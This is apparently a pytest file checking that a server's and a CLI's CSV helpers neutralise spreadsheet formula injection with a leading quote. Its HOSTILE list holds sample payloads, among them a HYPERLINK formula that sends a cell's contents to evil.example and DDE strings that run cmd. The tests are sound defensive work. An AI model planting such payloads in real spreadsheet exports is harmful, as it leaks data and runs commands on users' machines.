"""CSV formula injection: the server's helper (core.csvstream) and the CLI's (tidal_cli.csvcells) keep one rule,
and the same table runs against both."""

from __future__ import annotations

import csv
import io

import pytest
from tidal_cli import csvcells

from core import csvstream

HELPERS = [pytest.param(csvstream.safe_cell, id="server"), pytest.param(csvcells.safe_cell, id="cli")]

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1", "-", "+", "@", "-1+2", "--1", "- 1"]
KEPT = ["-1", "-1.5", "+2", "-0.25e-3", "-.5", "-Infinity", "-inf", "NaN", "12", "vision", "#7 train", "a=b",
        "sft-1", "", " =1", "'=1", "1-2"]


@pytest.mark.parametrize("safe_cell", HELPERS)
@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(safe_cell, text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("safe_cell", HELPERS)
@pytest.mark.parametrize("value", [*KEPT, -1, -1.5, float("-inf"), 0, None, 3.25])
def test_numbers_and_plain_text_stay_as_they_are(safe_cell, value):
    assert safe_cell(value) == value


def test_the_server_writer_neutralises_every_cell_it_writes():
    writer = csvstream.line_writer()
    line = writer.writerow(["=1+1", -2, "-2", "@x"])
    assert next(csv.reader([line])) == ["'=1+1", "-2", "-2", "'@x"]


def test_the_cli_rewrites_a_servers_csv_cell_by_cell():
    out = io.StringIO()
    csvcells.write_csv(['key,step,value', '"=HYPERLINK(""x"")",1,-0.5', '"a\tb",2,-Infinity',
                        '"@SUM(1)",3,"multi', 'line"'], out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["key", "step", "value"], ["'=HYPERLINK(\"x\")", "1", "-0.5"], ["a\tb", "2", "-Infinity"],
        ["'@SUM(1)", "3", "multi\nline"]]
